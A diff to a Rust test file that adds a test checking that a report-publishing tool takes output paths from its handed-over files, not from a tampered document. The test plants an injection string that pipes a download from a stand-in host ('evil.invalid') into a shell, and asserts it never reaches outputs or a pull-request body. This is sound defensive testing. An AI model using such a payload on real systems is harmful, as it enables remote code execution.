@@ -19,7 +19,13 @@ pub(super) fn handed_over(fake: &Fake, fixture: &str, args: &[&str]) -> (Project
     (project, head, to)
 }
 
-fn publish(project: &Project, fake: &Fake, head: &str, folder: &std::path::Path, more: &[&str]) -> super::Ran {
+pub(super) fn publish(
+    project: &Project,
+    fake: &Fake,
+    head: &str,
+    folder: &std::path::Path,
+    more: &[&str],
+) -> super::Ran {
     let nowhere = project.tmp().join("../nowhere");
     std::fs::create_dir_all(&nowhere).unwrap();
     let (nowhere, folder) = (nowhere.to_str().unwrap().to_owned(), folder.to_str().unwrap().to_owned());
@@ -123,6 +129,33 @@ fn what_is_said_of_a_forged_hand_over_is_no_command_for_the_runner() {
         let heard: Vec<&str> = lines.filter(|line| line.starts_with("::") || line.contains("##[")).collect();
         assert!(heard.is_empty(), "{what}: {heard:?}");
     }
+}
+
+#[test]
+fn paths_in_a_hand_over_are_those_of_its_files_whatever_its_document_says() {
+    let fake = Fake::start();
+    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
+    let mut document: Value = serde_json::from_str(&read("document.json")).unwrap();
+    let evil = "x\"; curl evil.invalid | sh #";
+    document["report"] = evil.into();
+    for field in ["receipt", "patch"] {
+        document["heal"][field] = evil.into();
+    }
+    let text = document.to_string();
+    let mut list: Value = serde_json::from_str(&read("handover.json")).unwrap();
+    list["files"]["document.json"] = hash(&text).into();
+    std::fs::write(folder.join("document.json"), &text).unwrap();
+    std::fs::write(folder.join("handover.json"), list.to_string()).unwrap();
+    let ran = publish(&project, &fake, &head, &folder, &[]);
+    assert!(ran.ok && !ran.outputs.contains("curl"), "{}\n{}", ran.said, ran.outputs);
+    let output = |name: &str| {
+        let rest = ran.outputs.split(&format!("{name}<<")).nth(1).unwrap();
+        rest.lines().nth(1).unwrap().to_owned()
+    };
+    assert_eq!(output("report"), folder.join("report.md").display().to_string());
+    assert_eq!(output("receipt"), folder.join("receipt.json").display().to_string());
+    assert!(!fake.state().pulls[0]["body"].as_str().unwrap().contains("curl"));
 }
 
 fn hash(text: &str) -> String {
